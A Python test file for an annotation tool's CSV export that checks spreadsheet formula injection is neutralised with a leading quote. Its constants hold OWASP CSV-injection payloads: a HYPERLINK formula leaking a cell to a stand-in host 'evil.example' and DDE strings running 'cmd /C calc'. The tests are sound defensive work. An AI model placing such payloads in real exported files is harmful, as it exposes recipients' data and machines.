"""Exports are spreadsheet-safe: no exported CSV cell opens as a live formula (issue #12, finding 7).

The hostile names go through a real ingest, a routed round pulled from Label Studio files, an
adjudication and a real export, on a real SQLite store (and PostgreSQL where available).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from annotate.cli import cli
from annotate.labelstudio.labelconfig import choices_result
from tests.helpers import generic_row, write_jsonl

#: OWASP's CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) and the
#: issue's, as model, benchmark, prompt_id, category and judge names.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+9)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
MODELS = (HYPERLINK, AT_SUM, "plain-model")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def run(runner, prefix, *args):
    result = runner.invoke(cli, [*prefix, *args])
    assert result.exit_code == 0, (result.output, result.stderr)
    return result


def reviewed_workspace(runner, prefix, ws: Path, tmp_path: Path, *, models=MODELS, benchmark=DDE, judge="=judge()"):
    """Ingest, route to files, pull two annotators' labels from files, adjudicate: ready to export."""
    rows = []
    for m in models:
        for i in range(24):
            label = "ambiguous" if i < 6 else ("harmful" if i < 12 else "safe")
            rows.append(
                generic_row(
                    i,
                    model=m,
                    benchmark=benchmark,
                    prompt_id=f"{PLUS}-{i}" if i % 2 else f"{MINUS}-{i}",
                    category=MINUS if i % 3 else "@category",
                    judge_label=label,
                    judge=judge,
                )
            )
    run(runner, prefix, "ingest", str(write_jsonl(tmp_path / "hostile.jsonl", rows)))
    for email in ("a1@example.org", "a2@example.org"):
        run(runner, prefix, "annotators", "add", email, "--offline")
    run(
        runner,
        prefix,
        *("route", "--round", "r1", "--annotators", "A1,A2", "--clear-per-cell", "4", "--seed", "3", "--to-file"),
    )
    for who, shift, user in (("A1", 0, 7), ("A2", 1, 8)):  # user: the reviewer's Label Studio user id
        tasks = json.loads((ws / "tasks" / "r1" / f"{who}.json").read_text())
        export = []
        for n, task in enumerate(tasks):
            # Mostly agreeing reviewers, with some disagreement and some harmful verdicts.
            key = sum(map(ord, task["data"]["ext_id"]))
            verdict = ("harmful", "safe", "safe")[(key + (shift if n % 5 == 0 else 0)) % 3]
            export.append(
                {
                    "id": 1000 + n,
                    "data": task["data"],
                    "meta": task["meta"],
                    "annotations": [
                        {"id": 5000 + n, "completed_by": user, "result": choices_result(verdict), "lead_time": 3.0}
                    ],
                }
            )
        path = tmp_path / f"export-{who}.json"
        path.write_text(json.dumps(export))
        run(runner, prefix, "pull", "--round", "r1", "--from-file", str(path), "--annotator", who)
    # Escalations nobody answers are settled by policy, so that every model gets a corrected rank.
    run(runner, prefix, "adjudicate", "--round", "r1", "--policy", "harmful")


def _raw_cells(path: Path) -> list[list[str]]:
    """The cells as a spreadsheet sees them: CSV syntax removed, nothing else undone."""
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_owasp_payloads_are_neutralised_and_restored_exactly():
    from annotate.audit.safecsv import neutralise, restore

    payloads = [
        HYPERLINK,
        DDE,
        AT_SUM,
        PLUS,
        MINUS,
        "=1+1",
        "\t=1+1",
        "\r=1+1",
        "-",
        "@",
        "'=already quoted",
        "''@twice",
    ]
    for text in payloads:
        safe = neutralise(text)
        assert safe.startswith("'") and safe[1:] == text, text
        assert restore(safe) == text
    for harmless in ("model-a", "a=b", "", "'quoted", "x-1", "1e-5"):
        assert neutralise(harmless) == harmless and restore(harmless) == harmless


def test_numbers_are_never_touched_only_text_cells():
    from annotate.audit.safecsv import frame_to_csv, parse_csv

    frame = pd.DataFrame(
        {
            "treatment": ["ambiguous_as_safe", "=evil()"],
            "tau_b": [-0.4, -1.0],
            "flips": [-3, 2],
            "credible": [True, False],
            "-header": ["+1", "-1"],  # text that looks like a number is text here
        }
    )
    data = frame_to_csv(frame)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[0] == ["treatment", "tau_b", "flips", "credible", "'-header"]
    assert rows[1] == ["ambiguous_as_safe", "-0.4", "-3", "True", "'+1"]
    assert rows[2] == ["'=evil()", "-1.0", "2", "False", "'-1"]
    table = parse_csv(data, "x.csv")
    assert table.header[-1] == "-header" and table.rows[1][0] == "=evil()" and table.rows[1][1] == "-1.0"


def test_cells_with_a_carriage_return_stay_one_cell():
    from annotate.audit.safecsv import frame_to_csv, parse_csv

    frame = pd.DataFrame({"model": ["\r=1+1", "a\nb", "\t@x"], "n": [1, 2, 3]})
    table = parse_csv(frame_to_csv(frame), "x.csv")
    assert [r[0] for r in table.rows] == ["\r=1+1", "a\nb", "\t@x"]


def test_hostile_names_export_as_text_and_verify(workspace, runner, tmp_path):
    ws, prefix = workspace
    reviewed_workspace(runner, prefix, ws, tmp_path)
    run(runner, prefix, "export", "hostile", "--draws", "300")
    path = ws / "exports" / "hostile"
    csvs = sorted(p for p in path.iterdir() if p.suffix == ".csv")
    assert [p.name for p in csvs] == [
        "flips.csv",
        "judge_labels.csv",
        "judge_models.csv",
        "judge_pairs.csv",
        "judges.csv",
        "labels.csv",
        "order.csv",
        "p_safer.csv",
        "p_tie.csv",
        "ranking.csv",
        "scores.csv",
    ]
    live = []
    for p in csvs:
        for line, row in enumerate(_raw_cells(p), start=1):
            for cell in row:
                if cell[:1] in TRIGGERS and not _is_number(cell):
                    live.append((p.name, line, cell))
    assert not live, live[:5]
    labels = _raw_cells(path / "labels.csv")
    text = (path / "labels.csv").read_text(encoding="utf-8")
    for payload in (HYPERLINK, AT_SUM, DDE, PLUS, MINUS, "=judge()"):
        cell = "'" + payload
        assert any(cell in row or any(c.startswith(cell) for c in row) for row in labels), payload
    assert "'=HYPERLINK" in text
    header = _raw_cells(path / "p_safer.csv")[0]
    assert header[0] == "model" and {"'" + HYPERLINK, "'" + AT_SUM, "plain-model"} == set(header[1:])
    # Negative numbers stay numbers (Kendall's tau of a reversed ranking is -1).
    ranking = _raw_cells(path / "ranking.csv")
    taus = [row[ranking[0].index("tau_b")] for row in ranking[1:]]
    assert all(t == "" or _is_number(t) for t in taus)
    # The verify reader undoes the neutralising: every re-derivation holds.
    checked = runner.invoke(cli, ["verify", str(path), "--json"])
    assert checked.exit_code == 0, (checked.output, checked.stderr)
    statuses = {f["file"]: f["status"] for f in json.loads(checked.output)["files"]}
    for name in (
        "scores.csv",
        "ranking.csv",
        "flips.csv",
        "p_safer.csv",
        "p_tie.csv",
        "judges.csv",
        "judge_pairs.csv",
        "agreement.json",
        "report.html",
    ):
        assert statuses[name] == "re-derived and equal", (name, statuses)
    assert statuses["labels.csv"] == "hash matches"


@pytest.mark.parametrize("tau", [-0.4, -1.0])
def test_a_negative_tau_in_ranking_is_written_as_a_number(tau):
    from annotate.audit.safecsv import frame_to_csv

    frame = pd.DataFrame({"benchmark": ["ALL"], "treatment": ["ambiguous_as_safe"], "tau_b": [tau], "rho": [tau]})
    rows = list(csv.reader(io.StringIO(frame_to_csv(frame).decode("utf-8"), newline="")))
    assert rows[1][2:] == [repr(tau), repr(tau)]
